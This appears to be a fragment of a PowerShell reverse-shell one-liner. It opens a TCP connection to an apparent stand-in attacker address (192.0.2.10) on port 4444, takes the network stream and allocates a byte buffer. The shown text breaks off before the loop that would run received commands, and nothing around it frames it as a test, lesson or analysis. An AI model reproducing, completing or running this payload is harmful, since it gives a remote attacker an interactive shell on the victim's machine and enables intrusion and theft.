$c = New-Object System.Net.Sockets.TCPClient("192.0.2.10",4444);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0}
